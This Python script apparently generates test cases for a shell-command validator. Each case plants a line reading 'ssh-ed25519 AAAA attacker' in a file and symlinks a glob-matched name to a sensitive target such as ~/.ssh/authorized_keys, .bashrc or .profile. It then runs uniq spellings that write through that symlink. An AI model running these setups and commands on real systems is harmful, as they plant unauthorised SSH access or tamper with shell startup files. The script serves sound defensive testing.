#!/usr/bin/env python3
# class globout: uniq's second operand is its output; a glob (or brace) word
# that expands to two names is read as inputs only.
tgts = {"outside-new": "@M@/new", "outside-keep": "@M@/keep.txt", "authkeys": "@H@/.ssh/authorized_keys", "gitconfig": "@H@/.gitconfig",
        "bashrc": "@H@/.bashrc", "profile": "@H@/.profile", "rel-up": "../../outside/new2", "proj-main": "../main.go"}
spell = ["uniq w/*", "cd w && uniq *", "uniq w/?*", "uniq w/[az]*", "uniq -c w/*", "uniq -u w/*", "uniq -d w/*", "uniq -i w/*",
         "uniq --group w/*", "uniq w/{a.txt,zz}", "uniq w/a.txt w/z*", "uniq -- w/*", "uniq -f1 w/*", "nice uniq w/*", "timeout 5 uniq w/*",
         "for f in w; do uniq $f/*; done", "uniq w/* 2>/dev/null", "uniq w/* | head", "xargs uniq w/* < /dev/null"]
with open("cands_globout.tsv", "w") as f:
    for tn, t in tgts.items():
        for s in spell:
            f.write(f"globout-{tn}\tsetup:mkdir -p w && printf 'ssh-ed25519 AAAA attacker\\n' > w/a.txt && ln -s {t} w/zz ;;; {s}\n")
